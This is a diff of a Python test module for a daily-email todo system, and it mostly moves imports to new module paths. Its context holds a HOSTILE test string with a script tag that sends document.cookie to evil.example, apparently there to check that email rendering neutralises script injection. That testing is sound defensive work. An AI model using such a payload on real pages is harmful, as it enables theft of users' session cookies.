@@ -12,7 +12,8 @@ from todo_rows import events, make_user
 from blocks.llm import DailyEmailContext, EmailTodo
 from blocks.mailer import OutboxMailer, SmtpMailer
 from store.db import session_scope
-from tasks.emails import claim, dedup_key, one_line, plain_text, render_email, stable_message_id
+from tasks.emails.claims import claim, dedup_key, stable_message_id
+from tasks.emails.compose import one_line, plain_text, render_email
 
 MONDAY = dt.date(2026, 11, 23)
 HOSTILE = ('Bonjour <b>Ada</b>!<script>fetch("https://evil.example/?c="+document.cookie)</script>'
@@ -76,7 +77,7 @@ def _claim(url: str, mailer, user: int, owner: str, stale_after: dt.timedelta = 
 
 
 def _set_status(url: str, user: int, status: str) -> None:
-    from store.todo_sweeps import set_event_payload
+    from store.events import set_event_payload
 
     key = dedup_key(user, MONDAY)
     payload = {**events(url)[key], "status": status}
@@ -125,7 +126,7 @@ def test_a_stale_or_refused_claim_is_taken_by_only_one_of_two_runs(db_url: str, 
     assert _claim(db_url, outbox, user, "first") == "claimed"
     _set_status(db_url, user, status)
     key = dedup_key(user, MONDAY)
-    from store.todo_sweeps import read_event, replace_event_payload
+    from store.events import read_event, replace_event_payload
 
     with session_scope(db_url) as session:
         seen = read_event(session, key)
